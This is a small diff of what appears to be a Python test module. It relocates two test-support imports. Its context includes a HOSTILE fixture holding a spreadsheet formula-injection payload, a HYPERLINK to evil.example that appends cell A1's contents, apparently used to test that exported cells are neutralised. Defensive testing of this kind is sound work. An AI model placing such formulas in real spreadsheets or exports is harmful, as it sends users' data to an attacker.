@@ -17,8 +17,8 @@ from sqlalchemy import update
 from config.cells import inert_text, read_cell, sheet_title
 from storage.db import make_engine, session_scope
 from storage.models import Wave
-from tests.prober.conftest import Run
-from tests.results_scene import email, latency, write_attempts
+from tests.support.cli import Run
+from tests.support.results_scene import email, latency, write_attempts
 
 HOSTILE = {
     "21770001800011": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
